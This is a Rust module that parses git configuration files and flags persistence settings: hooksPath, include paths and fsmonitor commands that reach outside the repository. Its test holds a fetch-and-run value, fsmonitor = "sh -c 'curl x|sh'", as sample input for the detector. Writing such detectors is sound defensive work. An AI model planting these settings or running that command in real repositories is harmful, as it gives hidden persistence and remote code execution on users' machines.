//! Git settings that make git run something later: `core.hooksPath` (hooks from another
//! directory), `include.path` and `includeIf.*.path` (another file's settings, hooks and
//! aliases included) and `core.fsmonitor` (a command run at every status).
//!
//! `git config core.hooksPath /tmp/h` writes `.git/config.lock` and renames it over
//! `.git/config`: no write to a hooks directory happens, so the path rules see nothing. The
//! config files written in a capture are read at its end, and the settings above that were not
//! there at its start are persistence.
use std::path::{Path, PathBuf};

/// Whether `path` is a git configuration file: a repository's, a submodule's, the user's or
/// the system's.
pub fn is_config(path: &str) -> bool {
    path.ends_with("/.git/config")
        || (path.contains("/.git/modules/") && path.ends_with("/config"))
        || path.ends_with("/.gitconfig")
        || path.ends_with("/.config/git/config")
        || path == "/etc/gitconfig"
}

/// One setting: `section.key` (or `section.sub.key`) and its value, names as git compares them
/// (section and key lower-case, the subsection as written).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Setting {
    pub name: String,
    pub value: String,
}

/// The settings of a config file's text, in order.
pub fn parse(text: &str) -> Vec<Setting> {
    let mut out = Vec::new();
    let mut section = String::new();
    for line in text.lines() {
        let mut line = line.trim();
        if line.starts_with('[') {
            let Some(end) = line.find(']') else { continue };
            let header = &line[1..end];
            section = match header.split_once(char::is_whitespace) {
                Some((name, sub)) => {
                    let sub = sub.trim().trim_matches('"');
                    format!("{}.{sub}", name.to_lowercase())
                }
                None => header.to_lowercase(),
            };
            line = line[end + 1..].trim();
            if line.is_empty() {
                continue;
            }
        }
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        let (key, value) = match line.split_once('=') {
            Some((k, v)) => (k.trim(), value_of(v)),
            None => (line, "true".to_string()),
        };
        out.push(Setting {
            name: format!("{section}.{}", key.to_lowercase()),
            value,
        });
    }
    out
}

/// A value without its quotes and trailing comment.
fn value_of(raw: &str) -> String {
    let mut out = String::new();
    let mut quoted = false;
    let mut chars = raw.trim().chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => quoted = !quoted,
            '\\' => {
                if let Some(n) = chars.next() {
                    out.push(match n {
                        'n' => '\n',
                        't' => '\t',
                        other => other,
                    });
                }
            }
            '#' | ';' if !quoted => break,
            c => out.push(c),
        }
    }
    out.trim().to_string()
}

/// The repository a config file belongs to (its work tree, or the bare repository), if any.
fn repository(config: &Path) -> Option<PathBuf> {
    let dir = config.parent()?;
    if dir.file_name()? == ".git" {
        return dir.parent().map(Path::to_path_buf);
    }
    dir.ancestors()
        .find(|d| d.file_name().is_some_and(|n| n == ".git"))
        .and_then(Path::parent)
        .map(Path::to_path_buf)
}

/// The settings of `text` (the config file at `path`) that make git run something from
/// outside the repository, each as `name=value` with why.
pub fn concerns(path: &Path, text: &str) -> Vec<String> {
    let repo = repository(path);
    let config_dir = path.parent().unwrap_or(Path::new("/"));
    // hooksPath is relative to the work tree; an include's path to the config file's directory.
    let inside = |value: &str, base: Option<&Path>| -> bool {
        let (Some(repo), Some(base)) = (&repo, base) else {
            return false;
        };
        let p = Path::new(value);
        let p = if p.is_absolute() {
            p.to_path_buf()
        } else {
            base.join(p)
        };
        let normal = crate::kernel::decode::normalize(&p.to_string_lossy());
        Path::new(&normal).starts_with(repo)
    };
    let mut out = Vec::new();
    for s in parse(text) {
        let name = s.name.as_str();
        let shown = format!("{name}={}", s.value);
        if name == "core.hookspath" {
            let default = repo
                .as_ref()
                .is_some_and(|r| Path::new(&s.value) == r.join(".git/hooks"));
            if !default && !inside(&s.value, repo.as_deref()) {
                out.push(format!("{shown} (hooks from outside the repository)"));
            }
        } else if (name == "include.path"
            || (name.starts_with("includeif.") && name.ends_with(".path")))
            && !inside(&s.value, Some(config_dir))
        {
            out.push(format!(
                "{shown} (settings, hooks and aliases from outside the repository)"
            ));
        } else if name == "core.fsmonitor" && !matches!(s.value.as_str(), "true" | "false") {
            out.push(format!("{shown} (a command git runs at every status)"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hooks_path_and_includes_outside_the_repository() {
        let text = "[core]\n\trepositoryformatversion = 0\n\thooksPath = /tmp/h2\n\
                    [include]\n\tpath = ../../shared.inc ; comment\n\
                    [includeIf \"gitdir:~/work/\"]\n\tpath = \"/home/u/evil config\"\n\
                    [core]\n\tfsmonitor = \"sh -c 'curl x|sh'\"\n";
        let found = concerns(Path::new("/r/repo/.git/config"), text);
        assert_eq!(found.len(), 4, "{found:#?}");
        assert!(found[0].starts_with("core.hookspath=/tmp/h2"));
        assert!(found[1].starts_with("include.path=../../shared.inc"));
        assert!(found[2].starts_with("includeif.gitdir:~/work/.path=/home/u/evil config"));
        assert!(found[3].starts_with("core.fsmonitor=sh -c 'curl x|sh'"));
    }

    #[test]
    fn settings_inside_the_repository_are_not_concerns() {
        let text = "[core]\n\thooksPath = .githooks\n\tfsmonitor = false\n[include]\n\tpath = ../cfg/extra\n";
        assert!(concerns(Path::new("/r/repo/.git/config"), text).is_empty());
        assert!(is_config("/r/repo/.git/config"));
        assert!(is_config("/home/u/.gitconfig"));
        assert!(!is_config("/r/repo/config"));
    }
}
